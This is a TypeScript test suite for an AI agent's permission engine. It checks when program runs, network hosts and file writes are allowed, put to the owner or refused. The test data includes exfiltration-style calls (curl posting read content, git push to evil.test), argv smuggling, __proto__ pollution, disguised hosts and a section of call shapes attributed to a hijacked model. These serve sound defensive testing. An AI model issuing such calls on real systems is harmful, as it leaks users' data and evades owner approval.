import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Question } from "@moltbot/contracts";
import type {
  Approval,
  Capability,
  Constraint,
  DecisionInput,
  Integrity,
  JsonObject,
  JsonValue,
  ResolvedResource,
  ToolCall,
} from "@moltbot/contracts";
import { limitsProblem } from "./answers/constraints.ts";
import { proposalFor } from "./answers/proposal.ts";
import { decide, decideAsThen } from "./decide.ts";
import { replay } from "./past/replay.ts";
import { DIGEST, inputOf, programOf, say } from "./testing/decisions.ts";
import { buildHouse, callOf, capabilityOf, manifestOf, OTHER_AGENT, OWNER } from "./testing/house.ts";
import type { House } from "./testing/house.ts";
import { issuedOf, PAGE, planOf, stepOf } from "./testing/plans.ts";
import { START } from "./testing/ports.ts";

const GIT = { argv: ["git", "status"] };
const CLONE = { argv: ["git", "clone", "https://a.test/b"], network: ["a.test"] };
const CLONING = programOf("git", "a.test:443");
const onlyTo = (...hosts: readonly string[]): Constraint => ({ kind: "host-in", argument: "network", hosts });
const onlyGit: Constraint = { kind: "program-in", argument: "argv", programs: ["git"] };
const grantOf = (constraints: readonly Constraint[] = [], change: Partial<Capability> = {}): Capability =>
  capabilityOf("exec.run", constraints, change);
const exactly = (argument: string, value: JsonValue): Constraint => ({ kind: "equals", argument, value });

const asked = (given: JsonObject, change: Partial<DecisionInput>, integrity: Integrity = "authority") => {
  const verdict = decide(inputOf(callOf("exec.run", given, integrity), change));
  if (verdict.kind !== "ask") throw new Error(`it must ask: ${verdict.rule}`);
  return verdict;
};

describe("a program and the owner's words", () => {
  it("reaches no host because a message names it: only a grant lets programs send", () => {
    const stated = ["Open a.test:443 and run git clone https://a.test/b with network a.test"];
    const call = callOf("exec.run", { argv: ["git", "fetch"], network: ["a.test"] });
    const input = inputOf(call, { resources: CLONING, capabilities: [grantOf()], stated });
    expect(say(decide(input))).toBe("ask execute.unknown-host");
    const fetched = inputOf(callOf("web.fetch", { url: "https://a.test/b" }), {
      resources: [{ argument: "url", kind: "host", value: "a.test:443", refusal: null }],
      capabilities: [capabilityOf("web.fetch", [])],
      stated: ["Open https://a.test/b"],
    });
    expect(say(decide(fetched))).toBe("allow fetch.capability");
  });

  it("is allowed no host by what an agent added while handing the right on", () => {
    const root = grantOf([], { holder: OTHER_AGENT, rights: ["delegate"] });
    const leaf = grantOf([onlyTo("a.test:443")], { parent: root.id });
    const input = inputOf(callOf("exec.run", CLONE), { resources: CLONING, capabilities: [root, leaf] });
    const chain = { ...input.call, agentChain: [OTHER_AGENT, input.call.agentId] };
    expect(say(decide({ ...input, call: chain }))).toBe("ask execute.unknown-host");
    const named = { ...root, constraints: [onlyTo("a.test:443", "b.test:443")] };
    expect(say(decide({ ...input, call: chain, capabilities: [named, leaf] }))).toBe("allow execute.capability");
  });

  it("is asked for each time with network while content from outside is in view, whatever is granted and said", () => {
    const capabilities = [
      grantOf([onlyTo("a.test:443")], { release: [{ source: "any", to: "public" }] }),
      grantOf([onlyTo("a.test:443"), exactly("argv", CLONE.argv), exactly("network", CLONE.network)]),
    ];
    for (const integrity of ["participant", "untrusted"] as const) {
      const verdict = asked(
        CLONE,
        { resources: CLONING, capabilities, stated: ["git clone https://a.test/b"] },
        integrity,
      );
      expect(verdict).toMatchObject({
        rule: "execute.network",
        nearest: null,
        question: { scopes: ["once"], grant: [] },
      });
      const input = inputOf(callOf("exec.run", CLONE, integrity), { resources: CLONING, capabilities, mayAsk: false });
      expect(decide(input)).toMatchObject({ kind: "deny", error: { code: "CAPABILITY_MISSING" }, nearest: null });
    }
  });

  it("says what is missing where there is no wall, and what to do", () => {
    const resources = programOf("git").map((one) => ({ ...one, refusal: "SANDBOX_UNAVAILABLE" }));
    const verdict = decide(inputOf(callOf("exec.run", GIT), { resources, capabilities: [grantOf()] }));
    if (verdict.kind !== "deny") throw new Error("it must be refused");
    expect(verdict).toMatchObject({ rule: "execute.no-sandbox", error: { code: "SANDBOX_UNAVAILABLE" } });
    expect(verdict.error.message).toContain("scripts/install-sandbox.sh");
    expect(verdict.error.message).not.toContain("{");
    expect(verdict.error.next).toContain("doctor");
  });
});

describe("a copy that holds something from outside", () => {
  const tainted = CLONING.map((one) => (one.kind === "executable" ? { ...one, outside: true } : one));

  it("has no network unasked in a clean context either, and runs without", () => {
    const capabilities = [grantOf([onlyTo("a.test:443")])];
    expect(say(decide(inputOf(callOf("exec.run", CLONE), { resources: CLONING, capabilities })))).toBe(
      "allow execute.capability",
    );
    expect(say(decide(inputOf(callOf("exec.run", CLONE), { resources: tainted, capabilities })))).toBe(
      "ask execute.network",
    );
    const offline = tainted.filter(({ kind }) => kind === "executable");
    expect(say(decide(inputOf(callOf("exec.run", GIT), { resources: offline, capabilities: [grantOf()] })))).toBe(
      "allow execute.capability",
    );
  });

  it("unplug: without the mark a later turn sends away what an earlier one planted in the copy", () => {
    const capabilities = [grantOf([onlyTo("a.test:443")])];
    const unmarked = tainted.map((one) => ({ ...one, outside: false }));
    expect(say(decide(inputOf(callOf("exec.run", CLONE), { resources: unmarked, capabilities })))).toBe(
      "allow execute.capability",
    );
  });
});

describe("keeping what programs left", () => {
  const KEEP: JsonObject = {};
  const file = (change: Partial<ResolvedResource> = {}): readonly ResolvedResource[] => [
    { argument: "paths", kind: "path", value: "src/index.ts", identity: "1", refusal: null, ...change },
  ];
  const within: Constraint = { kind: "path-within", argument: "paths", root: "" };
  const starting = capabilityOf("exec.keep", [within]);
  const forNow = (input: DecisionInput): Capability =>
    capabilityOf("exec.keep", [within], {
      reach: { kind: "conversation", conversationId: input.call.conversationId },
    });
  const keep = (integrity: Integrity, resources: readonly ResolvedResource[]) =>
    inputOf(callOf("exec.keep", KEEP, integrity), { resources, capabilities: [starting] });

  it("is unasked where all was the owner's, and asked once content from outside was in view or in the copy", () => {
    expect(say(decide(keep("authority", file())))).toBe("allow write.capability");
    expect(say(decide(keep("authority", file({ outside: true }))))).toBe("ask write.off-plan");
    expect(say(decide(keep("untrusted", file())))).toBe("ask write.off-plan");
  });

  it("goes on where a person granted it for now, but never for what runs later", () => {
    for (const resources of [file(), file({ outside: true })]) {
      const input = keep("untrusted", resources);
      expect(say(decide({ ...input, capabilities: [forNow(input)] }))).toBe("allow write.capability");
    }
    for (const change of [{ value: ".git/hooks/pre-commit" }, { value: "package.json" }, { executable: true }]) {
      const input = keep("authority", file(change));
      expect(say(decide({ ...input, capabilities: [starting, forNow(input)] }))).toBe("ask write.runs-later");
    }
  });
});

describe("the question about a program", () => {
  it("shows the words as they are, says what could leave, and offers the narrowest grant", () => {
    const given = { ...CLONE, cwd: "a", input: "yes\n", seconds: 60 };
    const { question, nearest } = asked(given, { resources: CLONING });
    expect(Question.parse(question)).toEqual(question);
    expect(question.leaves).toBe("Whatever the program sends of what it can read, to a.test:443.");
    expect(question.arguments.map(({ name, value, critical }) => [name, value, critical])).toEqual([
      ["argv", CLONE.argv, true],
      ["network", CLONE.network, true],
      ["cwd", "a", true],
      ["input", "yes\n", false],
      ["seconds", 60, false],
    ]);
    expect(nearest?.constraints).toEqual([
      onlyTo("a.test:443"),
      exactly("argv", CLONE.argv),
      exactly("cwd", "a"),
      exactly("input", "yes\n"),
    ]);
    expect(question).toMatchObject({ grant: nearest?.constraints, scopes: ["once", "task", "conversation", "always"] });
  });

  it("grants without network no host, no folder and no other words", () => {
    const { question } = asked(GIT, { resources: programOf("git") });
    expect(question.leaves).toBeNull();
    expect(question.grant).toEqual([exactly("argv", GIT.argv), exactly("cwd", null), exactly("network", null)]);
    const held = grantOf(question.grant);
    const judged = (given: JsonObject, resources: readonly ResolvedResource[]) =>
      decide(inputOf(callOf("exec.run", given), { resources, capabilities: [held] })).kind;
    expect(judged(GIT, programOf("git"))).toBe("allow");
    expect(judged({ ...GIT, cwd: "b" }, programOf("git"))).toBe("ask");
    expect(judged({ ...GIT, network: ["a.test"] }, CLONING)).toBe("ask");
    expect(judged({ argv: ["git", "push"] }, programOf("git"))).toBe("ask");
  });

  it("with content from outside in view is never answered for good", () => {
    const { question, rule } = asked(GIT, { resources: programOf("git") }, "untrusted");
    expect([rule, question.scopes]).toEqual(["execute.untrusted-context", ["once", "task", "conversation"]]);
  });

  it("is answered once alone where a word hides something or is too long to be shown", () => {
    for (const argv of [["git", "a\u202Eb"], ["git\u200B"], ["git", "x".repeat(5_000)]]) {
      const { question } = asked({ argv }, { resources: programOf("git") });
      expect(question.scopes).toEqual(["once"]);
      expect(JSON.stringify(question)).not.toMatch(/[\u202E\u200B]/u);
    }
  });
});

describe("limits of a program on a card", () => {
  const problemOf = (given: JsonObject, constraints: readonly Constraint[], resources: readonly ResolvedResource[]) =>
    limitsProblem(constraints, { call: callOf("exec.run", given), manifest: manifestOf("exec.run"), resources }, START);

  it("may leave words open, and never a host", () => {
    expect(problemOf(GIT, [], programOf("git"))).toBeNull();
    expect(problemOf(GIT, [onlyGit], programOf("git"))).toBeNull();
    expect(problemOf(GIT, [onlyGit, onlyTo("a.test:443")], programOf("git"))).toBeNull();
    expect(problemOf(CLONE, [onlyGit, onlyTo("a.test:443")], CLONING)).toBeNull();
    expect(problemOf(CLONE, [onlyGit], CLONING)).toBe("nothing limits the host of network");
    expect(problemOf(GIT, [{ ...onlyGit, programs: ["npm"] }], programOf("git"))).toBe(
      'the limit "program-in" on argv does not fit the call on the card',
    );
  });

  it("read no list of words as a text: a pattern never fits one", () => {
    const pattern: Constraint = { kind: "matches", argument: "argv", pattern: "*" };
    expect(problemOf(GIT, [pattern], programOf("git"))).toContain("does not fit");
    const input = inputOf(callOf("exec.run", GIT), { resources: programOf("git"), capabilities: [grantOf([pattern])] });
    expect(say(decide(input))).toBe("ask execute.no-capability");
  });

  it("serve a person who allows one program for the whole conversation, by that card", async () => {
    const house = buildHouse();
    const approval = await house.parked(callOf("exec.run", CLONE));
    const constraints = [onlyGit, onlyTo("a.test:443")];
    expect((await house.answer(approval, { scope: "conversation", constraints })).ok).toBe(true);
    for (const given of [CLONE, GIT, { ...GIT, network: [] }, { argv: ["git", "log"], seconds: 5 }])
      expect(await house.attempt(callOf("exec.run", given))).toBe("ran");
    for (const given of [{ argv: ["sh"] }, { ...GIT, network: ["evil.test"] }, { ...GIT, network: ["a.test:8443"] }])
      expect(await house.attempt(callOf("exec.run", given))).toBe("asked");
    expect(await house.attempt(callOf("exec.run", CLONE, "untrusted"))).toBe("asked");
  });

  it("are proposed after the same words were allowed again and again, and leave no host open", () => {
    const before = (given: JsonObject, resources: readonly ResolvedResource[]) => {
      const { question } = asked(given, { resources });
      const call = callOf("exec.run", given);
      const allowed = { state: "consumed", scope: "once", answeredBy: OWNER.id, label: call.label } as const;
      return { ...allowed, agentId: call.agentId, callId: call.id, question } as unknown as Approval; // what a proposal reads of it
    };
    const call = callOf("exec.run", CLONE);
    const log = { ...CLONE, argv: ["git", "fetch"] };
    const often = [before(CLONE, CLONING), before(log, CLONING), before(CLONE, CLONING)];
    expect(proposalFor(call, manifestOf("exec.run"), CLONING, often)?.constraints).toEqual([
      { kind: "one-of", argument: "argv", values: [CLONE.argv, log.argv] },
      exactly("cwd", null),
      onlyTo("a.test:443"),
    ]);
    const others = [before(GIT, programOf("git")), ...often];
    expect(proposalFor(call, manifestOf("exec.run"), CLONING, others)).toBeNull();
  });
});

describe("a program as the step of a plan", () => {
  const plan = planOf([
    stepOf("exec.run", CLONE),
    stepOf("exec.run", { argv: ["wc", "-l"], input: { $from: [1] } }),
    stepOf("exec.run", {
      argv: ["curl", "--data", "@-", "https://a.test/"],
      network: ["a.test"],
      input: { $from: [1] },
    }),
  ]);
  const judged = (call: ToolCall, resources: readonly ResolvedResource[], constraints: readonly Constraint[]) =>
    decide(
      inputOf(call, {
        resources,
        capabilities: [grantOf(constraints)],
        turnIsPlanned: true,
        plan: { plan, takenBy: null },
      }),
    );
  const brought = [{ ref: 1, label: PAGE }] as const;

  it("runs by its grant where the plan spells it out, also with network", () => {
    expect(say(judged(issuedOf(plan, 1, CLONE), CLONING, [onlyTo("a.test:443")]))).toBe("allow execute.capability");
    expect(say(judged(issuedOf(plan, 1, CLONE), CLONING, []))).toBe("ask execute.unknown-host");
  });

  it("may be fed what was read, and asks where it could send it on", () => {
    const count = issuedOf(plan, 2, { argv: ["wc", "-l"], input: "a page" }, brought);
    expect(say(judged(count, programOf("wc"), []))).toBe("allow execute.capability");
    const given = { argv: ["curl", "--data", "@-", "https://a.test/"], network: ["a.test"], input: "a page" };
    const sending = judged(issuedOf(plan, 3, given, brought), programOf("curl", "a.test:443"), [onlyTo("a.test:443")]);
    expect(sending).toMatchObject({ kind: "ask", rule: "execute.network" });
    expect(sending.kind === "ask" && sending.question.why).toContain(
      "It gives what was read to a program with network",
    );
    expect(sending.kind === "ask" && sending.question.why).toContain("“input” comes from");
  });

  it("is no step with other words, another host or one host more", () => {
    const wild = (given: JsonObject, resources: readonly ResolvedResource[]) => {
      const call = { ...issuedOf(plan, 1, given), label: PAGE };
      return say(judged(call, resources, [onlyTo("a.test:443", "b.test:443")]));
    };
    expect(wild({ ...CLONE, network: ["b.test"] }, programOf("git", "b.test:443"))).toBe("ask execute.network");
    expect(wild({ ...CLONE, network: ["a.test", "b.test"] }, programOf("git", "a.test:443", "b.test:443"))).toBe(
      "ask execute.network",
    );
  });
});

describe("a call recorded before programs could run", () => {
  const { input: _schema, ...manifest } = manifestOf("shell.run");
  const call = callOf("shell.run", { command: "ls" });
  const capabilities = [capabilityOf("shell.run", [exactly("command", "ls")])];
  const recorded: DecisionInput = { ...inputOf(call, { capabilities }), manifest };
  const { turnIsPlanned: _none, ...older } = recorded;

  it("replays as refused, with every grant there is", () => {
    const was = { kind: "deny", rule: "execute.no-sandbox" } as const;
    for (const input of [recorded, older, { ...older, resources: programOf("/bin/sh") }]) {
      expect(decideAsThen(input).kind).toBe("deny");
      const change = { grant: [capabilityOf("shell.run", [])], revoke: new Set<string>(), forbidden: null };
      expect(replay({ ...was, input }, change).kind).toBe("deny");
    }
  });

  it("is another one than the same call now", () => {
    expect(decideAsThen({ ...recorded, resources: programOf("/bin/sh") }).kind).toBe("allow");
  });
});

describe("shapes of calls that a hijacked model tries", () => {
  const attempt = async (json: string, integrity: Integrity = "authority"): Promise<readonly [string, House]> => {
    const house = buildHouse();
    house.grant(grantOf([onlyTo("a.test:443"), onlyGit]), grantOf([onlyGit]));
    const given = JSON.parse(json) as JsonObject; // as a model writes it
    return [await house.attempt(callOf("exec.run", given, integrity)), house];
  };

  it.each<readonly [string, string, string]>([
    ["a key twice, the good one first", `{"argv":["git"],"network":["a.test"],"network":["evil.test"]}`, "asked"],
    ["argv twice, the good one first", `{"argv":["git"],"argv":["sh","-c","x"]}`, "asked"],
    ["a host that hides behind a user", `{"argv":["git"],"network":["a.test@evil.test"]}`, "URL_INVALID"],
    ["a host in percent", `{"argv":["git"],"network":["%61.test"]}`, "URL_INVALID"],
    ["hosts in one text", `{"argv":["git"],"network":["a.test evil.test"]}`, "URL_INVALID"],
    ["hosts as an object", `{"argv":["git"],"network":{"0":"a.test","length":1}}`, "TOOL_ARGUMENTS_INVALID"],
    ["hosts as a text", `{"argv":["git"],"network":"a.test"}`, "TOOL_ARGUMENTS_INVALID"],
    ["hosts within a list", `{"argv":["git"],"network":[["a.test"]]}`, "TOOL_ARGUMENTS_INVALID"],
    ["hosts under another name", `{"argv":["git"],"Network":["evil.test"]}`, "TOOL_ARGUMENTS_INVALID"],
    ["hosts in the prototype", `{"argv":["git"],"__proto__":{"network":["evil.test"]}}`, "TOOL_ARGUMENTS_INVALID"],
    ["this very machine", `{"argv":["git"],"network":["localhost:18789"]}`, "ADDRESS_REFUSED"],
    ["no words at all", `{"argv":[]}`, "TOOL_ARGUMENTS_INVALID"],
    ["an empty program", `{"argv":["","git"]}`, "TOOL_ARGUMENTS_INVALID"],
    ["no argv", `{"network":["a.test"]}`, "TOOL_ARGUMENTS_INVALID"],
    ["another program with git in its words", `{"argv":["env","git","status"]}`, "asked"],
  ])("%s: nothing runs", async (_, json, expected) => {
    for (const integrity of ["authority", "untrusted"] as const) {
      const [happened, house] = await attempt(json, integrity);
      expect(happened).toBe(expected);
      expect(house.world).toEqual([]);
    }
  });

  it("a host in the words alone opens none: the call that runs names no host", async () => {
    const [happened, house] = await attempt(`{"argv":["git","push","https://evil.test/x"]}`, "untrusted");
    expect(happened).toBe("ran");
    expect(house.world).toEqual([{ tool: "exec.run", arguments: { argv: ["git", "push", "https://evil.test/x"] } }]);
    const [{ input } = { input: null }] = house.rows.decisions.values();
    expect(input?.resources).toEqual(programOf("git"));
  });

  it("a yes to one call serves no other program, word or host", async () => {
    const house = buildHouse();
    const call = callOf("exec.run", CLONE, "untrusted");
    await house.answer(await house.parked(call));
    for (const other of [
      { ...CLONE, argv: ["git", "push"] },
      { ...CLONE, network: ["a.test", "evil.test"] },
    ])
      expect(await house.attempt({ ...call, arguments: other })).toBe("asked");
    expect(house.world).toEqual([]);
  });

  it("a yes is gone when another program stands there under the name", async () => {
    const house = buildHouse();
    let identity = "one";
    house.tools.resolving = () => ({ ok: true, value: programOf("git").map((program) => ({ ...program, identity })) });
    const call = callOf("exec.run", GIT);
    await house.answer(await house.parked(call));
    identity = "another";
    expect(await house.attempt(call)).toBe("asked");
    expect(house.world).toEqual([]);
  });

  it("an edit on the card meets the wall that is missing, in its words", async () => {
    const house = buildHouse();
    const approval = await house.parked(callOf("exec.run", GIT));
    const resolve = house.tools.resolving;
    house.tools.resolving = (call) => {
      const found = resolve(call);
      const isOther = JSON.stringify(call.arguments).includes("log");
      const refusal = isOther ? "SANDBOX_UNAVAILABLE" : null;
      return found.ok ? { ok: true, value: found.value.map((one) => ({ ...one, refusal })) } : found;
    };
    const answered = await house.answer(approval, { arguments: { argv: ["git", "log"] } });
    expect(answered).toMatchObject({ ok: false, error: { code: "SANDBOX_UNAVAILABLE" } });
  });
});

describe("over random grants, labels and hosts", () => {
  const HOSTS = ["a.test:443", "b.test:443", "a.test:8443", "evil.test:443"] as const;
  const hosts = fc.subarray([...HOSTS]);
  const programs = fc.constantFrom("git", "git", "npm", "sh", "/usr/bin/git", "");
  const constraint: fc.Arbitrary<Constraint> = fc.oneof(
    hosts.map((some) => onlyTo(...some)),
    // Half of the limits come near to an allow; without that, the properties would hold for want of anything to allow.
    fc.constantFrom(onlyTo(...HOSTS), onlyTo("a.test:443", "b.test:443"), onlyGit),
    hosts.map((some): Constraint => ({ kind: "host-in", argument: "argv", hosts: some })),
    fc
      .array(programs, { maxLength: 3 })
      .map((some): Constraint => ({ kind: "program-in", argument: "argv", programs: some })),
    fc.constantFrom<Constraint>(
      exactly("argv", ["git"]),
      exactly("network", null),
      { kind: "one-of", argument: "network", values: [null, ["a.test:443"]] },
      { kind: "matches", argument: "network", pattern: "*" },
    ),
  );
  const capability = fc
    .record({
      constraints: fc.array(constraint, { maxLength: 2 }),
      release: fc.constantFrom([], [{ source: "any" as const, to: "public" }]),
      handedOn: fc.boolean(),
    })
    .map(({ constraints, release, handedOn }) => ({ constraints, release, handedOn }));
  const inputs = fc
    .record({
      program: programs,
      reached: hosts,
      integrity: fc.constantFrom<Integrity>("authority", "participant", "untrusted"),
      held: fc.array(capability, { maxLength: 3 }),
      above: fc.array(constraint, { maxLength: 1 }),
      isChain: fc.boolean(),
      stated: fc.constantFrom([], ["Run git with network a.test:443 and evil.test:443"]),
    })
    .map(({ program, reached, integrity, held, above, isChain, stated }) => {
      const root = grantOf(above, { holder: OTHER_AGENT, rights: ["delegate"] });
      const capabilities = held.map(({ constraints, release, handedOn }) =>
        grantOf(constraints, { release, ...(handedOn && isChain ? { parent: root.id } : {}) }),
      );
      const given = { argv: [program], ...(reached.length === 0 ? {} : { network: reached }) };
      const call = callOf("exec.run", given, integrity);
      const chain = isChain ? { agentChain: [OTHER_AGENT, call.agentId] } : {};
      const input = inputOf({ ...call, ...chain }, { capabilities: [root, ...capabilities], stated });
      return { input: { ...input, resources: programOf(program, ...reached), digest: DIGEST }, program, reached, root };
    });

  it("allows only a named program, and only hosts that the person's own grant names, none with content from outside in view", () => {
    const seen = { without: 0, within: 0, clean: 0 };
    fc.assert(
      fc.property(inputs, ({ input, program, reached, root }) => {
        const verdict = decide(input);
        if (verdict.kind !== "allow" || verdict.because.kind !== "capability") return;
        const { capabilityId } = verdict.because;
        const held = input.capabilities.find(({ id }) => id === capabilityId);
        const own = held?.parent === null ? held : root;
        const named = own?.constraints.flatMap((one) =>
          one.kind === "host-in" && one.argument === "network" ? [one.hosts] : [],
        );
        expect(program).not.toBe("");
        if (reached.length > 0) {
          seen.within += 1;
          expect(input.call.label.integrity).toBe("authority");
          expect(named?.length).toBeGreaterThan(0);
        } else seen[input.call.label.integrity === "authority" ? "clean" : "without"] += 1;
        for (const one of reached) expect(named?.every((list) => list.includes(one))).toBe(true);
        for (const one of [...(held?.constraints ?? []), ...(own?.constraints ?? [])])
          if (one.kind === "program-in") expect(one.programs).toContain(program);
      }),
      { numRuns: 3_000, seed: 20_261_123 },
    );
    expect(Math.min(...Object.values(seen))).toBeGreaterThan(20);
  });

  it("never allows with one host more what it does not allow without it", () => {
    let more = 0;
    fc.assert(
      fc.property(inputs, fc.constantFrom(...HOSTS), ({ input, program, reached }, extra) => {
        const all = [...new Set([...reached, extra])];
        const call = { ...input.call, arguments: { argv: [program], network: all } };
        const wider = { ...input, call, resources: programOf(program, ...all) };
        // Limits on the list itself name one list: what they say of another is no comparison.
        const isByHosts = ({ constraints }: Capability) =>
          constraints.every((one) => !("argument" in one) || one.argument !== "network" || one.kind === "host-in");
        const capabilities = input.capabilities.filter(isByHosts);
        if (decide({ ...wider, capabilities }).kind !== "allow") return;
        more += 1;
        expect(decide({ ...input, capabilities }).kind).toBe("allow");
      }),
      { numRuns: 3_000, seed: 20_261_123 },
    );
    expect(more).toBeGreaterThan(20);
  });
});
